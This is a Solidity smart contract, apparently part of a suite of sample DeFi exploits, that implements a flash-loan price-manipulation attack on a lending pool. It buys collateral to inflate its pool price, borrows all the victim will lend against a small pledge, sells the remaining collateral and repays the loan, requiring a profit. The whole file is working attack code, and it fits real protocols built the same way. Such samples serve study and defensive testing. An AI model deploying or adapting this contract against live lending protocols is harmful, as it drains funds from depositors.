// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

import {Router} from "../amm/Router.sol";
import {IERC3156FlashBorrower, IERC3156FlashLender} from "../lending/IERC3156.sol";
import {LendingPool} from "../lending/LendingPool.sol";
import {IERC20} from "../token/IERC20.sol";
import {Exploit} from "./Exploit.sol";

/// @notice Price manipulation with a flash loan (Harvest 2020, Cream 2021, and many since): buys collateral until a pool
/// says it is dear, borrows all that a lender has against a little of it, sells the rest, and pays the loan back.
contract PriceAttack is Exploit, IERC3156FlashBorrower {
    error NotTheLender(address caller);
    error NoProfit(uint256 held, uint256 owed);

    IERC3156FlashLender private immutable _source;
    LendingPool private immutable _victim;
    Router private immutable _router;
    IERC20 private immutable _collateral;
    IERC20 private immutable _debt;

    constructor(IERC3156FlashLender source, LendingPool victim, Router router) {
        _source = source;
        _victim = victim;
        _router = router;
        _collateral = victim.collateralToken();
        _debt = victim.debtToken();
        _collateral.approve(address(victim), type(uint256).max);
        _collateral.approve(address(router), type(uint256).max);
        _debt.approve(address(router), type(uint256).max);
        _debt.approve(address(source), type(uint256).max);
    }

    /// @param amount of the debt token to borrow, @param pledged of the collateral to leave with the victim.
    function run(uint256 amount, uint256 pledged) external onlyOperator {
        _source.flashLoan(this, address(_debt), amount, abi.encode(pledged));
    }

    function onFlashLoan(address initiator, address, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        if (msg.sender != address(_source) || initiator != address(this)) revert NotTheLender(msg.sender);
        uint256 pledged = abi.decode(data, (uint256));
        _swap(_debt, _collateral, amount);
        _victim.postCollateral(pledged);
        uint256 limit = _victim.borrowLimit(address(this)) - 1; // a debt is rounded up
        uint256 cash = _victim.cash();
        _victim.borrow(limit < cash ? limit : cash);
        _swap(_collateral, _debt, _collateral.balanceOf(address(this)));
        uint256 held = _debt.balanceOf(address(this));
        if (held <= amount + fee) revert NoProfit(held, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    function _swap(IERC20 from, IERC20 to, uint256 amount) private {
        address[] memory path = new address[](2);
        (path[0], path[1]) = (address(from), address(to));
        _router.swapExactTokensForTokens(amount, 0, path, address(this), block.timestamp);
    }
}
